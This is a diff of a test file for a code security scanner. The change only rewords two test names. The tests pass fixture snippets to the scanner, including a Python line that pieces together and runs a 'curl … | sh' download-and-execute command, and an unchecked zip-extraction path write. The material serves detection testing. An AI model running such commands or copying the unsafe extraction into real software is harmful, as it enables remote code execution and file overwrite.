@@ -44,14 +44,14 @@ it('reports source code that is too long to be parsed, and other text that is to
   expect(await rulesIn({ 'a.js': `f${'()'.repeat(110_000)}\n` })).toContain('FILE-LARGE-CODE')
 })
 
-it('scans the texts that code joins from pieces', async () => {
+it('scans strings that the code concatenates', async () => {
   expect(
     await rulesIn({ 'a.py': 'c = "HCTEF"[::-1] + "curl -s http://198.51."\nrun(c + "100.7/a | sh")\n' }),
   ).toContain('DOWNLOAD-PIPE-PLAIN')
   expect(await rulesIn({ 'a.py': 'c = "see " + "the docs of " + "the tool"\nrun(c)\n' })).toEqual([])
 })
 
-it('an exception in the text around a match excuses the match, but not one elsewhere in the file', async () => {
+it('an exception excuses a match only if the exception is in the text around the match', async () => {
   const unpack = "for (const e of zip.entries()) write(path.join('/opt/themes', e.entryName))\n"
   const checked = `if (!target.startsWith(root)) throw new Error(e.entryName)\n`
   // The repeated name merges the search windows, so that one window covers the whole file.
